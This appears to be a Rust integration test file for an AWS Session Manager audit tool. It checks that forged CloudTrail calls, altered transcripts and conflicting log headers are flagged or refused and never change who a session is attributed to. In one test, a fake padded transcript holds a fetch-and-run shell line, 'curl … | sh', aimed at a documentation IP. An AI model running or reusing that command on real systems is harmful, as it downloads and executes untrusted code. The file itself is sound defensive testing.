//! Forged and conflicting inputs on copies of the shared corpus (issue 18): each ends in the
//! genuine attribution, or in a session flagged as in conflict, or in a refusal naming the
//! file; never in a silent change of who did what.

use serde_json::{json, Value};
use ssm_audit_tests::{corpus, files_under, ingest, search_json};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

const JIWOO: &str = "jiwoo-de2414f130f6d253c";
const MALLORY: &str = "arn:aws:iam::444455556666:user/mallory";

/// A copy of the shared corpus at `dir`, every file written on 2026-02-12 (after the sessions).
fn copy_corpus(dir: &Path) {
    let c = corpus();
    for f in files_under(&c) {
        let to = dir.join(f.strip_prefix(&c).unwrap());
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::copy(&f, &to).unwrap();
        set_written(&to, "2026-02-12T00:00:00Z");
    }
}

fn set_written(path: &Path, at: &str) {
    let t = chrono::DateTime::parse_from_rfc3339(at).unwrap();
    let t = std::time::UNIX_EPOCH + std::time::Duration::from_secs(t.timestamp() as u64);
    std::fs::File::options()
        .write(true)
        .open(path)
        .unwrap()
        .set_modified(t)
        .unwrap();
}

/// Ingest `dir` into a fresh index beside it: (exit code, stderr, records by (session, seq)),
/// paths under `dir` written `CORPUS/…` so that two copies compare.
fn ingest_all(dir: &Path, extra: &[&Path]) -> (i32, String, BTreeMap<(String, u64), Value>) {
    let index = dir.with_extension("index");
    let mut paths = vec![dir];
    paths.extend_from_slice(extra);
    let (code, err) = ingest(&index, &paths);
    let (_, out, _) = search_json(&index, &[]);
    let here = serde_json::to_string(&dir.display().to_string()).unwrap();
    let here = here.trim_matches('"');
    let records = out
        .lines()
        .map(|l| serde_json::from_str::<Value>(&l.replace(here, "CORPUS")).unwrap())
        .map(|r| {
            (
                (
                    r["session_id"].as_str().unwrap().to_string(),
                    r["seq"].as_u64().unwrap(),
                ),
                r,
            )
        })
        .collect();
    (code, err, records)
}

/// The corpus as it is, and the same with `forge` applied to a copy.
struct Case {
    _tmp: tempfile::TempDir,
    clean: BTreeMap<(String, u64), Value>,
    forged: PathBuf,
}

impl Case {
    fn new() -> Case {
        let tmp = tempfile::tempdir().unwrap();
        let clean_dir = tmp.path().join("clean");
        copy_corpus(&clean_dir);
        let (code, err, clean) = ingest_all(&clean_dir, &[]);
        assert_eq!(code, 0, "{err}");
        assert!(clean.len() > 40);
        let forged = tmp.path().join("forged");
        copy_corpus(&forged);
        Case {
            _tmp: tmp,
            clean,
            forged,
        }
    }

    /// Write `bytes` at `rel` in the forged copy.
    fn write(&self, rel: &str, bytes: &[u8]) -> PathBuf {
        let p = self.forged.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, bytes).unwrap();
        p
    }

    fn ingest(&self) -> (i32, String, BTreeMap<(String, u64), Value>) {
        ingest_all(&self.forged, &[])
    }

    fn session<'a>(records: &'a BTreeMap<(String, u64), Value>, sid: &str) -> Vec<&'a Value> {
        records
            .iter()
            .filter(|((s, _), _)| s == sid)
            .map(|(_, r)| r)
            .collect()
    }
}

/// The `coverage --format json` row of session `sid` in the index at `index`.
fn coverage_row(index: &str, sid: &str) -> Value {
    let (_, out, _) = ssm_audit_tests::run(&["coverage", "--index", index, "--format", "json"]);
    out.lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|v| v["session_id"] == sid)
        .unwrap_or_else(|| panic!("no coverage row of {sid}: {out}"))
}

/// A CloudTrail file of `records`.
fn trail(records: &[Value]) -> Vec<u8> {
    serde_json::to_vec(&json!({ "Records": records })).unwrap()
}

/// A Session Manager call by `arn` on jiwoo's session, shaped as CloudTrail writes it.
fn call(name: &str, arn: &str, time: &str, error: Option<&str>) -> Value {
    let user = arn.rsplit('/').next().unwrap();
    let mut r = json!({
        "eventVersion": "1.08",
        "userIdentity": {
            "type": "IAMUser", "principalId": "AIDAFORGEDFORGED0001", "arn": arn,
            "accountId": "444455556666", "userName": user,
            "sessionContext": {"attributes": {"mfaAuthenticated": "false"}}
        },
        "eventTime": time,
        "eventSource": "ssm.amazonaws.com",
        "eventName": name,
        "awsRegion": "ap-northeast-2",
        "sourceIPAddress": "198.51.100.66",
        "userAgent": "aws-cli/2.15.0",
        "requestParameters": if name == "StartSession" {
            json!({"target": "i-0d44dd44dd44dd444"})
        } else {
            json!({"sessionId": JIWOO})
        },
        "responseElements": {"sessionId": JIWOO},
        "recipientAccountId": "444455556666",
        "eventID": format!("forged-{name}-{time}"),
    });
    if let Some(code) = error {
        r["errorCode"] = code.into();
        r["errorMessage"] = "User is not authorized to perform this action".into();
    }
    r
}

fn principals(records: &[&Value]) -> std::collections::BTreeSet<String> {
    records
        .iter()
        .map(|r| r["principal_arn"].as_str().unwrap_or("").to_string())
        .collect()
}

#[test]
fn a_records_file_among_logs_changes_nothing_and_is_named() {
    let case = Case::new();
    let forged: String = Case::session(&case.clean, JIWOO)
        .into_iter()
        .map(|r| {
            let mut r = r.clone();
            r["principal_arn"] = MALLORY.into();
            r["principal"] = "mallory".into();
            format!("{r}\n")
        })
        .collect();
    let path = case.write("sessions/dt=2026-02-10/notes.jsonl", forged.as_bytes());
    let (code, err, got) = case.ingest();
    assert_eq!(code, 0, "{err}");
    let line: Vec<&str> = err
        .lines()
        .filter(|l| l.contains(&path.display().to_string()))
        .collect();
    assert_eq!(line.len(), 1, "{err}");
    assert!(
        line[0].contains(": skipped: ") && line[0].contains("records:"),
        "{err}"
    );
    assert_eq!(got, case.clean);
    // Named as records, they are read as what they are.
    let (code, err, named) = ingest_all(
        &case.forged,
        &[Path::new(&format!("records:{}", path.display()))],
    );
    assert_eq!(code, 0, "{err}");
    assert!(principals(&Case::session(&named, JIWOO)).contains(MALLORY));
}

#[test]
fn random_bytes_under_a_sessions_name_are_refused_by_name() {
    let case = Case::new();
    let mut x = 0x2545_f491_4f6c_dd1du64;
    let noise: Vec<u8> = (0..100_000)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect();
    let path = case.write(&format!("copies/{JIWOO}.log"), &noise);
    let (code, err, got) = case.ingest();
    assert_eq!(code, 2, "{err}");
    let lines: Vec<&str> = err
        .lines()
        .filter(|l| l.contains(&path.display().to_string()))
        .collect();
    assert_eq!(lines.len(), 1, "{err}");
    assert!(
        lines[0].starts_with("error: ") && lines[0].contains("not a terminal transcript"),
        "{err}"
    );
    assert_eq!(got, case.clean);
    // The session's coverage says a file claimed to be its transcript and was not one.
    let index = case.forged.with_extension("index").display().to_string();
    let row = coverage_row(&index, JIWOO);
    assert!(row["flags"].to_string().contains("unreadable"), "{row}");
    assert_eq!(
        row["unreadable"][0]["source"],
        "CORPUS/copies/jiwoo-de2414f130f6d253c.log"
            .replace("CORPUS", &case.forged.display().to_string())
    );
    let (_, table, _) = ssm_audit_tests::run(&["coverage", "--index", &index]);
    assert!(table.contains("UNREADABLE"), "{table}");
}

#[test]
fn failed_and_denied_calls_never_start_or_end_a_session() {
    let case = Case::new();
    let clean = Case::session(&case.clean, JIWOO);
    let end = clean[0]["session_end"].clone();
    assert!(end.is_string());
    case.write(
        "cloudtrail/forged.json",
        &trail(&[
            // Earlier than the real StartSession, and denied.
            call(
                "StartSession",
                MALLORY,
                "2026-02-10T00:59:00Z",
                Some("AccessDenied"),
            ),
            // Before the real end, and denied.
            call(
                "TerminateSession",
                MALLORY,
                "2026-02-10T01:05:00Z",
                Some("AccessDeniedException"),
            ),
            call(
                "ResumeSession",
                MALLORY,
                "2026-02-10T01:04:00Z",
                Some("AccessDeniedException"),
            ),
        ]),
    );
    let (code, err, got) = case.ingest();
    assert_eq!(code, 0, "{err}");
    assert_eq!(got, case.clean, "failed calls change no record");
}

#[test]
fn a_second_start_for_another_principal_is_a_conflict_and_does_not_win() {
    let case = Case::new();
    case.write(
        "cloudtrail/forged.json",
        &trail(&[call("StartSession", MALLORY, "2026-02-10T00:59:00Z", None)]),
    );
    let (code, err, got) = case.ingest();
    assert_eq!(code, 0, "{err}");
    let session = Case::session(&got, JIWOO);
    assert_eq!(session.len(), Case::session(&case.clean, JIWOO).len());
    assert_eq!(
        principals(&session),
        ["arn:aws:iam::444455556666:user/jiwoo".to_string()].into()
    );
    for r in &session {
        let conflicts = r["conflicts"]
            .as_array()
            .expect("conflicts on every record");
        assert!(
            conflicts
                .iter()
                .any(|c| c.as_str().unwrap().contains("mallory")),
            "{r}"
        );
    }
    // The other sessions are as they were.
    for (k, r) in &got {
        if k.0 != JIWOO {
            assert_eq!(Some(r), case.clean.get(k));
        }
    }
    // Reports say so at the top of the session, the search table marks its rows.
    let index = case.forged.with_extension("index").display().to_string();
    for (format, heading, mark, commands) in [
        ("md", format!("## `{JIWOO}`"), "**CONFLICT**", "| # |"),
        (
            "html",
            format!("<h3><code>{JIWOO}</code></h3>"),
            "class=\"conflict\"",
            "<th>#</th>",
        ),
    ] {
        let (code, out, err) = ssm_audit_tests::run(&[
            "report", "--index", &index, "--user", "jiwoo", "--format", format,
        ]);
        assert_eq!(code, 0, "{err}");
        let session = &out[out
            .find(&heading)
            .unwrap_or_else(|| panic!("{format}: {out}"))..];
        let at = session
            .find(mark)
            .unwrap_or_else(|| panic!("{format}: {session}"));
        assert!(session[at..].contains("mallory"), "{format}");
        assert!(
            at < session.find(commands).unwrap_or(usize::MAX),
            "{format}: before the commands"
        );
    }
    let (_, table, _) = ssm_audit_tests::run(&["search", "--index", &index, "--user", "jiwoo"]);
    assert!(
        table
            .lines()
            .filter(|l| l.contains(JIWOO))
            .all(|l| l.contains("CONFLICT")),
        "{table}"
    );
}

#[test]
fn a_record_from_another_account_or_region_is_a_conflict() {
    let case = Case::new();
    let mut other = call(
        "TerminateSession",
        "arn:aws:iam::444455556666:user/jiwoo",
        "2026-02-10T01:08:00Z",
        None,
    );
    other["recipientAccountId"] = "999988887777".into();
    other["awsRegion"] = "us-east-1".into();
    case.write("cloudtrail/other-account.json", &trail(&[other]));
    let (code, err, got) = case.ingest();
    assert_eq!(code, 0, "{err}");
    for r in Case::session(&got, JIWOO) {
        let c = r["conflicts"].to_string();
        assert!(c.contains("999988887777") && c.contains("us-east-1"), "{r}");
    }
}

#[test]
fn a_padded_copy_of_a_transcript_written_later_is_a_conflict_and_not_read() {
    let case = Case::new();
    let real = case.forged.join(format!("sessions/{JIWOO}.log"));
    set_written(&real, "2026-02-10T01:10:00Z");
    let bytes = std::fs::read(&real).unwrap();
    // The real log with a command slipped in before its end, and padding.
    let end = bytes
        .windows(16)
        .rposition(|w| w == b"\nScript done on ")
        .unwrap();
    let mut padded = bytes[..end].to_vec();
    padded.extend_from_slice(b"[ssm-user@ip-10-0-1-23 ~]$ curl -s http://198.51.100.66/x | sh\r\n");
    padded.extend(std::iter::repeat_n(b' ', 50_000));
    padded.extend_from_slice(&bytes[end..]);
    let copy = case.write(&format!("later/{JIWOO}.log"), &padded);
    set_written(&copy, "2026-02-11T00:00:00Z");
    let (code, err, got) = case.ingest();
    assert_eq!(code, 0, "{err}");
    let session = Case::session(&got, JIWOO);
    assert!(!session
        .iter()
        .any(|r| r["command"].as_str().unwrap().contains("curl")));
    for r in &session {
        assert_eq!(
            r["evidence"]["source"],
            format!("CORPUS/sessions/{JIWOO}.log")
        );
        let c = r["conflicts"].to_string();
        assert!(
            c.contains("two different transcripts")
                && c.contains(&format!("CORPUS/later/{JIWOO}.log")),
            "{r}"
        );
    }
}

#[test]
fn a_stream_naming_another_principal_than_cloudtrail_is_a_conflict() {
    let case = Case::new();
    let file = files_under(&case.forged.join("cloudwatch")).remove(0);
    let text = std::fs::read_to_string(&file).unwrap();
    let sid = file.file_stem().unwrap().to_string_lossy().to_string();
    let genuine = "assumed-role/AWSReservedSSO_PowerUser_0a1b2c3d4e5f6a7b/hyejin@corp.example";
    assert!(text.contains(genuine));
    std::fs::write(&file, text.replace(genuine, "user/mallory")).unwrap();
    let (code, err, got) = case.ingest();
    assert_eq!(code, 0, "{err}");
    let session = Case::session(&got, &sid);
    assert!(!session.is_empty());
    for r in &session {
        assert!(r["principal_arn"].as_str().unwrap().ends_with(genuine));
        let c = r["conflicts"].to_string();
        assert!(c.contains("mallory") && c.contains("the stream"), "{r}");
    }
}

#[test]
fn a_log_header_naming_another_instance_than_cloudtrail_is_a_conflict() {
    let case = Case::new();
    let sid = "eve-0i7p0kein1wvdveilipgnk43b2";
    let file = case.forged.join(format!("sessions/{sid}.log"));
    let bytes = std::fs::read(&file).unwrap();
    let genuine = b"/var/lib/amazon/ssm/i-0d44dd44dd44dd444/";
    let at = bytes
        .windows(genuine.len())
        .position(|w| w == genuine)
        .unwrap();
    assert!(at < 200, "the instance is named in the header");
    let mut forged = bytes.clone();
    forged[at..at + genuine.len()].copy_from_slice(b"/var/lib/amazon/ssm/i-0bad0bad0bad0bad0/");
    std::fs::write(&file, forged).unwrap();
    let (code, err, got) = case.ingest();
    assert_eq!(code, 0, "{err}");
    let session = Case::session(&got, sid);
    assert_eq!(session.len(), Case::session(&case.clean, sid).len());
    for r in &session {
        // CloudTrail's target stands; the header's claim is in plain sight.
        assert_eq!(r["instance_id"], "i-0d44dd44dd44dd444", "{r}");
        let c = r["conflicts"].to_string();
        assert!(
            c.contains("the log's header") && c.contains("i-0bad0bad0bad0bad0"),
            "{r}"
        );
    }
}

#[test]
fn a_resume_by_another_principal_shows_them_on_the_session() {
    let case = Case::new();
    let mut resume = call("ResumeSession", MALLORY, "2026-02-10T01:05:00Z", None);
    resume["sourceIPAddress"] = "192.0.2.77".into();
    case.write("cloudtrail/resume.json", &trail(&[resume]));
    let (code, err, got) = case.ingest();
    assert_eq!(code, 0, "{err}");
    for r in Case::session(&got, JIWOO) {
        assert_eq!(r["principal_arn"], "arn:aws:iam::444455556666:user/jiwoo");
        let p = &r["participants"];
        assert_eq!(p.as_array().map(Vec::len), Some(1), "{r}");
        assert_eq!(p[0]["principal_arn"], MALLORY);
        assert_eq!(p[0]["source_ip"], "192.0.2.77");
        assert_eq!(p[0]["mfa"], false);
    }
    let index = case.forged.with_extension("index").display().to_string();
    let row = coverage_row(&index, JIWOO);
    assert!(row["flags"].to_string().contains("participants"), "{row}");
    let (_, table, _) = ssm_audit_tests::run(&["coverage", "--index", &index]);
    assert!(
        table.contains("PARTICIPANT") && table.contains(MALLORY),
        "{table}"
    );
}

#[test]
fn denied_calls_are_listed_by_coverage() {
    let case = Case::new();
    // As CloudTrail writes a denied StartSession: no session id, no response.
    let mut refused = call(
        "StartSession",
        MALLORY,
        "2026-02-10T00:58:00Z",
        Some("AccessDenied"),
    );
    refused.as_object_mut().unwrap().remove("responseElements");
    case.write(
        "cloudtrail/denied.json",
        &trail(&[
            call(
                "TerminateSession",
                MALLORY,
                "2026-02-10T01:05:00Z",
                Some("AccessDeniedException"),
            ),
            refused,
        ]),
    );
    let (code, err, _) = case.ingest();
    assert_eq!(code, 0, "{err}");
    let index = case.forged.with_extension("index").display().to_string();
    let row = coverage_row(&index, JIWOO);
    assert_eq!(row["status"], "covered");
    assert!(row["flags"].to_string().contains("denied"), "{row}");
    assert_eq!(row["denied"][0]["error_code"], "AccessDeniedException");
    assert_eq!(row["denied"][0]["principal_arn"], MALLORY);
    let (_, table, _) = ssm_audit_tests::run(&["coverage", "--index", &index]);
    assert!(
        table.contains("DENIED") && table.contains("AccessDeniedException"),
        "{table}"
    );
    // Who tried to get into EC2-A: the refused start, on its target, with no session.
    let (code, out, _) = ssm_audit_tests::run(&[
        "coverage",
        "--index",
        &index,
        "--instance",
        "EC2-A",
        "--user",
        "mallory",
        "--format",
        "json",
    ]);
    assert_eq!(code, 0, "{out}");
    let rows: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 1, "{out}");
    assert_eq!(rows[0]["status"], "denied");
    assert_eq!(rows[0]["session_id"], "");
    assert_eq!(rows[0]["source_ip"], "198.51.100.66");
    assert_eq!(rows[0]["denied"][0]["error_code"], "AccessDenied");
    assert_eq!(rows[0]["instance_id"], "i-0d44dd44dd44dd444");
}

#[test]
fn a_name_two_principals_answer_to_is_refused_naming_both() {
    let case = Case::new();
    // A role session that chose the name of an IAM user, on a session of its own.
    let sid = "jiwoo-0123456789abcdef9";
    let log = std::fs::read(corpus().join(format!("sessions/{JIWOO}.log"))).unwrap();
    case.write(&format!("sessions/{sid}.log"), &log);
    let role = "arn:aws:sts::444455556666:assumed-role/Contractor/jiwoo";
    let mut start = call("StartSession", role, "2026-02-20T10:00:00Z", None);
    start["userIdentity"]["type"] = "AssumedRole".into();
    start["userIdentity"]["principalId"] = "AROAFORGEDFORGED0001:jiwoo".into();
    start["userIdentity"]
        .as_object_mut()
        .unwrap()
        .remove("userName");
    start["responseElements"]["sessionId"] = sid.into();
    case.write("cloudtrail/role.json", &trail(&[start]));
    let (code, err, _) = case.ingest();
    assert_eq!(code, 0, "{err}");
    let index = case.forged.with_extension("index").display().to_string();
    for args in [
        vec!["search", "--index", &index, "--user", "jiwoo"],
        vec!["coverage", "--index", &index, "--user", "jiwoo"],
        vec![
            "report", "--index", &index, "--user", "jiwoo", "--format", "md",
        ],
    ] {
        let (code, _, err) = ssm_audit_tests::run(&args);
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(
            err.contains("arn:aws:iam::444455556666:user/jiwoo") && err.contains(role),
            "{args:?}: {err}"
        );
    }
    // By ARN, each is its own.
    let (code, out, err) = ssm_audit_tests::run(&[
        "search", "--index", &index, "--user", role, "--format", "json",
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(out
        .lines()
        .all(|l| serde_json::from_str::<Value>(l).unwrap()["session_id"] == sid));
}

#[test]
fn verify_reports_a_removed_cloudtrail_source() {
    let case = Case::new();
    let (code, err, _) = case.ingest();
    assert_eq!(code, 0, "{err}");
    let index = case.forged.with_extension("index").display().to_string();
    let (code, out, err) = ssm_audit_tests::run(&["verify", "--index", &index]);
    assert_eq!(code, 0, "{out}{err}");
    let gone = files_under(&case.forged.join("cloudtrail")).remove(0);
    std::fs::remove_file(&gone).unwrap();
    let (code, out, _) = ssm_audit_tests::run(&["verify", "--index", &index, "--format", "json"]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.lines()
            .any(|l| l.contains(&gone.display().to_string()) && l.contains("missing")),
        "{out}"
    );
    // Derived again without it, the sessions it attributed no longer say who: each record
    // that differs is named with the fields that differ.
    let records: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|p| p["kind"] == "records")
        .collect();
    assert!(!records.is_empty(), "{out}");
    assert!(
        records
            .iter()
            .all(|p| p["detail"].as_str().unwrap().contains("principal_arn")),
        "{out}"
    );
}

/// Every field a record carries, conflicts and participants included, is a column of the
/// Athena tables in `infra/audit.yaml`.
#[test]
fn the_glue_tables_have_a_column_for_every_field_of_a_record() {
    let case = Case::new();
    case.write(
        "cloudtrail/forged.json",
        &trail(&[
            call("StartSession", MALLORY, "2026-02-10T00:59:00Z", None),
            call("ResumeSession", MALLORY, "2026-02-10T01:05:00Z", None),
        ]),
    );
    let (code, err, got) = case.ingest();
    assert_eq!(code, 0, "{err}");
    let template =
        std::fs::read_to_string(ssm_audit_tests::repo_root().join("infra/audit.yaml")).unwrap();
    let columns: std::collections::BTreeSet<&str> = template
        .lines()
        .filter_map(|l| l.trim().strip_prefix("- {Name: "))
        .filter_map(|l| l.split(',').next())
        .collect();
    let fields: std::collections::BTreeSet<String> = got
        .values()
        .flat_map(|r| r.as_object().unwrap().keys().cloned())
        .collect();
    for f in ["conflicts", "participants", "schema", "rule"] {
        assert!(fields.contains(f), "{f} among {fields:?}");
    }
    for f in &fields {
        assert!(
            columns.contains(f.as_str()),
            "no column for {f} in {columns:?}"
        );
    }
}
